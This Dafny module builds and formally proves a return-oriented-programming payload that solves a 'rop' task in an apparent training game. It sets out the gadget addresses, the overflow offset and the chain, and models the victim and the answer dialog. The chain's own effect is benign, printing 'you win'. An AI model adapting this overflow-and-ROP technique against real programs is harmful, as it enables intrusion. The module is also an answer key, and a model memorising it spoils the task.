/**
 * The payload that solves the `rop` task: 24 filler bytes, a return-oriented
 * chain of 29 eight-byte words, zero padding up to the 1024 bytes the victim
 * reads, and the text the chain then reads back and prints. It is printed as
 * lowercase hex, which the rop dialog decodes before running the victim.
 *
 * The chain is also run on a small model of the victim: the stack words
 * after the overwritten return address select gadgets (whose effect is the
 * one their names give), and the three system calls act on stdin, stdout
 * and the start of `.bss`.
 */
module Rop {
  import opened Wrappers
  import opened Bytes
  import Hex
  import Dialogs

  // ---- Constants ------------------------------------------------------------

  const PopRax: nat := 0x4189FC
  const PopRdi: nat := 0x42A41D
  const PopRsiPopRbp: nat := 0x4025AC
  /** `pop rdx; or al, 0x5b; pop r12; pop rbp; ret`. */
  const PopRdxCorruptRaxPopR12PopRbp: nat := 0x475304
  const SysRead: nat := 0
  const SysWrite: nat := 1
  const SysExit: nat := 60
  /** `exit_group`, the other call the victim's seccomp filter lets through. */
  const SysExitGroup: nat := 231
  const BssStart: nat := 0x4A7AC0
  const SyscallGadget: nat := 0x437AB9

  /** How far `read(0, buf, 1024)` may write, and where the return address sits above `char buf[16]`. */
  const ReadSize: nat := 1024
  const ReturnOffset: nat := 24

  const Word: nat := 0x1_0000_0000_0000_0000

  /** `b"A" * 24`. */
  function Padding(): (p: seq<Byte>)
    ensures |p| == ReturnOffset && forall i :: 0 <= i < |p| ==> p[i] == 'A' as int
  {
    seq(ReturnOffset, _ => 'A' as int)
  }

  /** `b"you win"`. */
  const AfterRop: seq<Byte> := [121, 111, 117, 32, 119, 105, 110]

  /**
   * One system call with three arguments: `rdx := n` (the gadget also
   * clobbers the low byte of `rax`), then `rax := sys`, `rdi := fd`,
   * `rsi := .bss`, and `syscall`. The 1337s are popped into r12 and rbp.
   */
  function CallBlock(n: nat, sys: nat, fd: nat): (b: seq<nat>)
    ensures |b| == 12
  {
    [ PopRdxCorruptRaxPopR12PopRbp, n, 1337, 1337,
      PopRax, sys, PopRdi, fd, PopRsiPopRbp, BssStart, 1337, SyscallGadget ]
  }

  /** `exit(0)`. */
  function ExitBlock(): (b: seq<nat>)
    ensures |b| == 5
  {
    [PopRax, SysExit, PopRdi, 0, SyscallGadget]
  }

  /** The chain: read(0, bss, 7), write(1, bss, 7), exit(0). */
  function Chain(): (c: seq<nat>)
    ensures |c| == 29
    ensures c[1] == |AfterRop| && c[13] == |AfterRop|
    ensures Words64(c)
  {
    CallBlock(|AfterRop|, SysRead, 0) + CallBlock(|AfterRop|, SysWrite, 1) + ExitBlock()
  }

  // ---- Serialisation ----------------------------------------------------------

  predicate Words64(ws: seq<nat>) {
    forall i :: 0 <= i < |ws| ==> ws[i] < Word
  }

  /** `struct.pack("<n>Q", *ws)` on x86-64: each word as eight little-endian bytes. */
  function Pack(ws: seq<nat>): (b: seq<Byte>)
    requires Words64(ws)
    ensures |b| == 8 * |ws|
  {
    if ws == [] then [] else LittleEndian64(ws[0]) + Pack(ws[1..])
  }

  /** `bytes.ljust(n, fill)`: `s` followed by `fill` up to length `n`, or `s` if it is already that long. */
  function Ljust(s: seq<Byte>, n: nat, fill: Byte): (r: seq<Byte>)
    ensures |r| == if |s| < n then n else |s|
    ensures r[..|s|] == s
    ensures forall i :: |s| <= i < |r| ==> r[i] == fill
  {
    if |s| < n then s + seq(n - |s|, _ => fill) else s
  }

  /** The bytes the generator hex-encodes for a chain `c`. */
  function PayloadOf(c: seq<nat>): seq<Byte>
    requires Words64(c)
  {
    Ljust(Padding() + Pack(c), ReadSize, 0) + AfterRop
  }

  function Payload(): seq<Byte> {
    PayloadOf(Chain())
  }

  /** What the generator prints, without the newline `print` adds. */
  function Output(): string {
    Hex.Encode(Payload())
  }

  /** Word `k` of a packed chain sits at bytes `8k .. 8k + 8`. */
  lemma {:induction false} PackedWord(ws: seq<nat>, k: nat)
    requires Words64(ws) && k < |ws|
    ensures Pack(ws)[8 * k .. 8 * k + 8] == LittleEndian64(ws[k])
    decreases k
  {
    var rest := Pack(ws[1..]);
    assert Pack(ws) == LittleEndian64(ws[0]) + rest;
    if k > 0 {
      PackedWord(ws[1..], k - 1);
      assert Pack(ws)[8 * k .. 8 * k + 8] == rest[8 * (k - 1) .. 8 * (k - 1) + 8];
    }
  }

  /** The zeros `ljust` adds after a chain of `m` words. */
  function Zeros(m: nat): (z: seq<Byte>)
    requires ReturnOffset + 8 * m <= ReadSize
    ensures |z| == ReadSize - ReturnOffset - 8 * m
    ensures forall i :: 0 <= i < |z| ==> z[i] == 0
  {
    seq(ReadSize - ReturnOffset - 8 * m, _ => 0)
  }

  /**
   * The layout for any chain that fits: the filler, the packed chain from
   * offset 24, zeros up to 1024, then the trailing text.
   */
  lemma LayoutOf(c: seq<nat>)
    requires Words64(c) && ReturnOffset + 8 * |c| <= ReadSize
    ensures |PayloadOf(c)| == ReadSize + |AfterRop|
    ensures PayloadOf(c) == Padding() + Pack(c) + Zeros(|c|) + AfterRop
    ensures PayloadOf(c)[ReturnOffset .. ReadSize] == Pack(c) + Zeros(|c|)
  {
    var head := Padding() + Pack(c);
    var z := Zeros(|c|);
    assert |head| + |z| == ReadSize;
    assert Ljust(head, ReadSize, 0) == head + z by {
      if |head| < ReadSize {
        assert seq(ReadSize - |head|, _ => 0) == z;
      }
    }
    var p := PayloadOf(c);
    assert p == head + z + AfterRop;
    assert head + z + AfterRop == Padding() + (Pack(c) + z) + AfterRop;
    assert p[ReturnOffset .. ReadSize] == Pack(c) + z;
  }

  /** Where the words of a chain of any length that fits land in its payload. */
  lemma WordsLand(c: seq<nat>)
    requires Words64(c) && ReturnOffset + 8 * |c| <= ReadSize
    ensures forall k :: 0 <= k < |c| ==>
              PayloadOf(c)[ReturnOffset + 8 * k .. ReturnOffset + 8 * k + 8] == LittleEndian64(c[k])
  {
    LayoutOf(c);
    var p := PayloadOf(c);
    forall k | 0 <= k < |c|
      ensures p[ReturnOffset + 8 * k .. ReturnOffset + 8 * k + 8] == LittleEndian64(c[k])
    {
      PackedWord(c, k);
      assert p[ReturnOffset + 8 * k .. ReturnOffset + 8 * k + 8] == Pack(c)[8 * k .. 8 * k + 8];
    }
  }

  /**
   * The payload's layout: 24 'A's, the packed chain from offset 24 to 256
   * with word `k` at `24 + 8k`, zeros up to 1024, then "you win"; 1031 bytes.
   */
  lemma PayloadLayout()
    ensures |Payload()| == 1031
    ensures forall i :: 0 <= i < ReturnOffset ==> Payload()[i] == 'A' as int
    ensures Payload()[ReturnOffset .. 256] == Pack(Chain())
    ensures forall k :: 0 <= k < 29 ==> Payload()[ReturnOffset + 8 * k .. ReturnOffset + 8 * k + 8] == LittleEndian64(Chain()[k])
    ensures forall i :: 256 <= i < ReadSize ==> Payload()[i] == 0
    ensures Payload()[ReadSize..] == AfterRop
  {
    LayoutSlices(Chain());
    WordsLand(Chain());
  }

  lemma LayoutSlices(c: seq<nat>)
    requires Words64(c) && |c| == 29
    ensures |PayloadOf(c)| == 1031
    ensures forall i :: 0 <= i < ReturnOffset ==> PayloadOf(c)[i] == 'A' as int
    ensures PayloadOf(c)[ReturnOffset .. 256] == Pack(c)
    ensures forall i :: 256 <= i < ReadSize ==> PayloadOf(c)[i] == 0
    ensures PayloadOf(c)[ReadSize..] == AfterRop
  {
    LayoutOf(c);
    var p := PayloadOf(c);
    assert p[..ReturnOffset] == Padding();
    assert p[256 .. ReadSize] == Zeros(29);
  }

  /** The printed text: 2062 lowercase hex digits that decode to the payload, as the dialog decodes them. */
  lemma OutputDecodes()
    ensures |Output()| == 2062
    ensures forall i :: 0 <= i < |Output()| ==> Hex.IsLowerDigit(Output()[i])
    ensures Hex.Decode(Output()) == Success(Payload())
  {
    PayloadLayout();
    Hex.EncodeLowercase(Payload());
    Hex.DecodeEncode(Payload());
  }

  // ---- The victim ---------------------------------------------------------------

  datatype Regs = Regs(Rax: nat, Rdi: nat, Rsi: nat, Rdx: nat)

  /** Unread stdin, what has been written to stdout, and the bytes at the start of `.bss`. */
  datatype Os = Os(Stdin: seq<Byte>, Stdout: seq<Byte>, Bss: seq<Byte>)

  /**
   * How a run ends: an exit with its status, a kill by the seccomp filter, a
   * crash on a word that is no gadget, or a system call this model does not
   * cover (another descriptor or address).
   */
  datatype Ending = Exited(Code: nat, Out: seq<Byte>) | Killed(Out: seq<Byte>)
                  | Crashed(Out: seq<Byte>) | Unmodelled(Out: seq<Byte>)

  /** `or al, 0x5b`. */
  function OrLow(rax: nat, k: bv8): (r: nat)
    ensures r / 256 == rax / 256
  {
    rax / 256 * 256 + (((rax % 256) as bv8) | k) as int
  }

  function Min(a: nat, b: nat): nat { if a < b then a else b }

  /**
   * Returning into the words `ws` from index `i`: each gadget pops its
   * operands and returns into the next word; `syscall` performs the call
   * that `rax` names.
   */
  function Exec(ws: seq<nat>, i: nat, r: Regs, os: Os): (e: Ending)
    decreases |ws| - i
  {
    if i >= |ws| then Crashed(os.Stdout)
    else if ws[i] == PopRax then
      if i + 1 < |ws| then Exec(ws, i + 2, r.(Rax := ws[i + 1]), os) else Crashed(os.Stdout)
    else if ws[i] == PopRdi then
      if i + 1 < |ws| then Exec(ws, i + 2, r.(Rdi := ws[i + 1]), os) else Crashed(os.Stdout)
    else if ws[i] == PopRsiPopRbp then
      if i + 2 < |ws| then Exec(ws, i + 3, r.(Rsi := ws[i + 1]), os) else Crashed(os.Stdout)
    else if ws[i] == PopRdxCorruptRaxPopR12PopRbp then
      if i + 3 < |ws| then Exec(ws, i + 4, r.(Rdx := ws[i + 1], Rax := OrLow(r.Rax, 0x5b)), os)
      else Crashed(os.Stdout)
    else if ws[i] == SyscallGadget then
      if r.Rax == SysExit || r.Rax == SysExitGroup then Exited(r.Rdi % 256, os.Stdout)
      else if r.Rax == SysRead then
        if r.Rdi == 0 && r.Rsi == BssStart then
          var n := Min(r.Rdx, |os.Stdin|);
          Exec(ws, i + 1, r.(Rax := n),
               os.(Stdin := os.Stdin[n..], Bss := os.Stdin[..n] + os.Bss[Min(n, |os.Bss|)..]))
        else Unmodelled(os.Stdout)
      else if r.Rax == SysWrite then
        if r.Rdi == 1 && r.Rsi == BssStart && r.Rdx <= |os.Bss| then
          Exec(ws, i + 1, r.(Rax := r.Rdx), os.(Stdout := os.Stdout + os.Bss[..r.Rdx]))
        else Unmodelled(os.Stdout)
      else Killed(os.Stdout)
    else Crashed(os.Stdout)
  }

  /** The eight-byte little-endian words of `b`, a trailing partial word dropped. */
  function Words(b: seq<Byte>): (ws: seq<nat>)
    ensures |ws| == |b| / 8
    decreases |b|
  {
    if |b| < 8 then [] else [ReadLittleEndian(b[..8])] + Words(b[8..])
  }

  /**
   * The victim run on `input`: `read(0, buf, 1024)` takes the first 1024
   * bytes, which overwrite the stack from `buf` on; `main` then returns into
   * the words from offset 24, and the rest of the input stays on stdin.
   */
  function Program(input: seq<Byte>, r0: Regs): Ending {
    var n := Min(ReadSize, |input|);
    if n < ReturnOffset + 8 then Unmodelled([])
    else Exec(Words(input[ReturnOffset..n]), 0, r0, Os(input[n..], [], []))
  }

  lemma {:induction false} WordsOfPack(ws: seq<nat>, rest: seq<Byte>)
    requires Words64(ws)
    ensures Words(Pack(ws) + rest) == ws + Words(rest)
    decreases |ws|
  {
    if ws != [] {
      var b := Pack(ws) + rest;
      assert b == LittleEndian64(ws[0]) + (Pack(ws[1..]) + rest);
      assert b[..8] == LittleEndian64(ws[0]);
      assert b[8..] == Pack(ws[1..]) + rest;
      WordsOfPack(ws[1..], rest);
      assert ws == [ws[0]] + ws[1..];
    } else {
      assert Pack(ws) + rest == rest;
    }
  }

  /** A call block loads exactly its arguments, whatever the registers held: the clobbered `rax` is set again. */
  lemma BlockLoads(ws: seq<nat>, i: nat, n: nat, sys: nat, fd: nat, r: Regs, os: Os)
    requires i + 12 <= |ws| && ws[i .. i + 12] == CallBlock(n, sys, fd)
    ensures Exec(ws, i, r, os) == Exec(ws, i + 11, Regs(sys, fd, BssStart, n), os)
  {
    var b := CallBlock(n, sys, fd);
    assert forall k :: 0 <= k < 12 ==> ws[i + k] == b[k];
    var r1 := r.(Rdx := n, Rax := OrLow(r.Rax, 0x5b));
    assert Exec(ws, i, r, os) == Exec(ws, i + 4, r1, os);
    assert Exec(ws, i + 4, r1, os) == Exec(ws, i + 6, r1.(Rax := sys), os);
    assert Exec(ws, i + 6, r1.(Rax := sys), os) == Exec(ws, i + 8, r1.(Rax := sys, Rdi := fd), os);
  }

  /**
   * Whatever follows it on the stack, the chain reads the next seven bytes of
   * stdin into `.bss`, writes them to stdout and exits with status 0.
   */
  lemma ChainEchoes(tail: seq<nat>, r0: Regs, os: Os)
    requires |os.Stdin| >= |AfterRop|
    ensures Exec(Chain() + tail, 0, r0, os) == Exited(0, os.Stdout + os.Stdin[..|AfterRop|])
  {
    var n := |AfterRop|;
    var readCall := CallBlock(n, SysRead, 0);
    var writeCall := CallBlock(n, SysWrite, 1);
    var ws := Chain() + tail;
    assert ws == readCall + (writeCall + (ExitBlock() + tail));
    assert ws[0 .. 12] == readCall;
    assert ws[12 .. 24] == writeCall;
    assert ws[24 .. 29] == ExitBlock();
    BlockLoads(ws, 0, n, SysRead, 0, r0, os);
    assert ws[11] == SyscallGadget;
    var os1 := os.(Stdin := os.Stdin[n..], Bss := os.Stdin[..n] + os.Bss[Min(n, |os.Bss|)..]);
    assert Exec(ws, 11, Regs(SysRead, 0, BssStart, n), os) == Exec(ws, 12, Regs(n, 0, BssStart, n), os1);
    BlockLoads(ws, 12, n, SysWrite, 1, Regs(n, 0, BssStart, n), os1);
    assert ws[23] == SyscallGadget;
    assert os1.Bss[..n] == os.Stdin[..n];
    var os2 := os1.(Stdout := os.Stdout + os.Stdin[..n]);
    assert Exec(ws, 23, Regs(SysWrite, 1, BssStart, n), os1) == Exec(ws, 24, Regs(n, 1, BssStart, n), os2);
    assert ws[24] == PopRax && ws[25] == SysExit && ws[26] == PopRdi && ws[27] == 0 && ws[28] == SyscallGadget;
    assert Exec(ws, 24, Regs(n, 1, BssStart, n), os2) == Exec(ws, 26, Regs(SysExit, 1, BssStart, n), os2);
    assert Exec(ws, 26, Regs(SysExit, 1, BssStart, n), os2) == Exec(ws, 28, Regs(SysExit, 0, BssStart, n), os2);
  }

  /** The victim fed a payload returns into its chain followed by the zero padding, with the trailing text left on stdin. */
  lemma ProgramRunsChain(c: seq<nat>, r0: Regs)
    requires Words64(c) && ReturnOffset + 8 * |c| <= ReadSize - 8
    ensures Program(PayloadOf(c), r0) == Exec(c + Words(Zeros(|c|)), 0, r0, Os(AfterRop, [], []))
  {
    LayoutOf(c);
    var p := PayloadOf(c);
    assert p[ReadSize..] == AfterRop;
    WordsOfPack(c, Zeros(|c|));
  }

  /** Fed the payload, the victim prints "you win" and exits with status 0, whatever its registers held. */
  lemma PayloadWins(r0: Regs)
    ensures Program(Payload(), r0) == Exited(0, AfterRop)
  {
    var c := Chain();
    var tail := Words(Zeros(|c|));
    var os := Os(AfterRop, [], []);
    ChainEchoes(tail, r0, os);
    assert os.Stdout + os.Stdin[..|AfterRop|] == AfterRop;
    assert Exec(c + tail, 0, r0, os) == Exited(0, AfterRop);
    ProgramRunsChain(c, r0);
  }

  // ---- The rop dialog ---------------------------------------------------------------

  /** Go reads the victim's stdout into a string byte for byte. */
  function Text(b: seq<Byte>): (s: string)
    ensures |s| == |b| && forall i :: 0 <= i < |b| ==> s[i] as int == b[i]
  {
    seq(|b|, i requires 0 <= i < |b| => b[i] as char)
  }

  /** `cmd.Run` succeeds only on exit status 0; the dialog then sees stdout. */
  function Status(e: Ending): (r: Result<string, string>)
    ensures r.Success? <==> e.Exited? && e.Code == 0
    ensures r.Success? ==> r.value == Text(e.Out)
  {
    match e
    case Exited(code, out) => if code == 0 then Success(Text(out)) else Failure("exit status")
    case Killed(_) => Failure("signal: bad system call")
    case Crashed(_) => Failure("signal: segmentation fault")
    case Unmodelled(_) => Failure("unmodelled system call")
  }

  /** The victim as the dialog runs it, from the register values `r0` it starts with. */
  function Victim(r0: Regs): Dialogs.Stdin -> Result<string, string> {
    (x: Dialogs.Stdin) =>
      match x
      case ByteInput(b) => Status(Program(b, r0))
      case TextInput(_) => Failure("text input")
  }

  /** Answering the rop dialog (target "you win", hex mode) with the printed hex gives the item. */
  lemma DialogAccepts(s: Dialogs.State, r0: Regs)
    ensures Dialogs.Verdict(s, "you win", Dialogs.BinaryOutput(true, Output(), Victim(r0)))
         == Dialogs.State(s.Text + "\n correct!", true, true)
  {
    var run := Victim(r0);
    var p := Payload();
    Dialogs.HexAnswerFeedsBytes(p, run);
    PayloadWins(r0);
    WinText();
    assert run(Dialogs.ByteInput(p)) == Success("you win");
    assert Dialogs.BinaryOutput(true, Output(), run) == Success("you win");
  }

  /** The trailing text, read back as a string, is the dialog's target and has no surrounding space. */
  lemma WinText()
    ensures Text(AfterRop) == "you win"
    ensures Dialogs.TrimSpace("you win") == "you win"
  {
    var t := Text(AfterRop);
    assert t[0] == 'y' && t[1] == 'o' && t[2] == 'u' && t[3] == ' ' && t[4] == 'w' && t[5] == 'i' && t[6] == 'n';
    Dialogs.TrimSpaceKeepsWords("you win");
  }
}
